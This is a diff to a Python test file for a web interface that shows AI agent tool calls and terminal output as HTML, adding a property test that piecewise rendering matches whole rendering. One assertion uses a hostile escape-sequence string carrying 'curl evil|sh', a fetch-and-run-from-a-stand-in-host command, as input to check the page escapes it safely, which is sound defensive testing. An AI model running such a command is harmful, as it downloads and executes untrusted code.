@@ -11,6 +11,8 @@ from typing import Any
 import httpx
 import pytest
 from httpx_sse import ServerSentEvent, aconnect_sse
+from hypothesis import given
+from hypothesis import strategies as st
 from pydantic import JsonValue
 
 from quarterdeck.app import people
@@ -22,6 +24,7 @@ from quarterdeck.core import events as e
 from quarterdeck.core.access import Role
 from quarterdeck.core.events import Event, Level
 from quarterdeck.doors.web import languages, session_stream
+from quarterdeck.doors.web.printing import Printing
 from quarterdeck.doors.web.rendering import TEMPLATES, fragment
 from quarterdeck.doors.web.texts import (
     MARKDOWN_CHARACTERS,
@@ -125,7 +128,9 @@ def test_what_people_decide_on_loses_nothing() -> None:
         e.ToolCallRequested(call_id="c", component="a", tool=tool, args=args, side="executor", asks=False)
         for tool, args in zip(("run_command", "create_file"), calls, strict=True)
     ]
-    events = [Event(session=1, seq=n + 1, at=lens.began, level=Level.CONCISE, payload=card) for n, card in enumerate(cards)]
+    events = [
+        Event(session=1, seq=n + 1, at=lens.began, level=Level.CONCISE, payload=card) for n, card in enumerate(cards)
+    ]
     html += timeline(events, lens)
     assert html.count("␛]; curl evil|sh #␇") == 3, "in the card's head and its arguments"
     assert html.count("␛]y␇") == 1, "one argument that is too long for the head"
@@ -146,11 +151,33 @@ def test_markdown_has_room_on_a_page_and_no_more() -> None:
         assert found == [True] * (len(found) - 1) + [False], "what is shown as it is takes no room"
 
 
-def test_what_was_printed_before_is_told_from_a_whole_line_on() -> None:
+def test_what_was_printed_before_takes_the_place_of_what_is_there() -> None:
     lens = Lens(1, datetime.now(UTC), Level.FULL, "en")
-    told = Teller(lens)([OutputSignal("c", 70_000, b"\xa4t\nnew\n", skipped=True), OutputSignal("c", 70_007, b"<b>")])
+    told = Teller(lens)([OutputSignal("c", 70_000, b"t\nnew\n", skipped=True), OutputSignal("c", 70_006, b"<b>")])
     found = [json.loads(line.partition(": ")[2]) for line in told.decode().split("\n") if line.startswith("data")]
-    assert [(one["offset"], one["html"]) for one in found] == [(0, "[…]\nnew\n"), (70_007, "&lt;b&gt;")]
+    assert [(one["offset"], one["html"]) for one in found] == [(0, "[…]t\nnew\n"), (70_006, "&lt;b&gt;")]
+
+
+@given(st.lists(st.integers(1, 12), max_size=30))
+def test_output_in_pieces_comes_to_the_same_as_the_whole(sizes: list[int]) -> None:
+    data = (
+        "a\x1b[1;31mré漢\r\nd\x1b[0m \x1b]8;;http://e\x07link\x1b]8;;\x1b\\ 9%\r10%\n<b>\x1b[32m".encode() * 2
+        + b"\xff."
+    )
+    printing, pieces, offset = Printing(), list[str](), 0
+    for size in [*sizes, len(data)]:
+        piece = data[offset : offset + size]
+        pieces.append(printing.html("c", offset, piece))
+        printing.html("c", max(0, offset - 3), data[max(0, offset - 3) : offset + size])  # another, who came later
+        offset += len(piece)
+    one = "".join(pieces)
+    assert _plainly(one) == _plainly(Printing().html("c", 0, data))
+
+
+def _plainly(html: str) -> list[tuple[str, str]]:
+    """Each letter with its look."""
+    found = re.findall(r'<span class="([^"]*)">(.*?)</span>|([^<]+)', html, flags=re.DOTALL)
+    return [(look, letter) for look, inside, outside in found for letter in inside or outside]
 
 
 async def test_who_may_not_is_told_and_who_may_not_know_is_not(api: Api, app: App, start: Start) -> None:
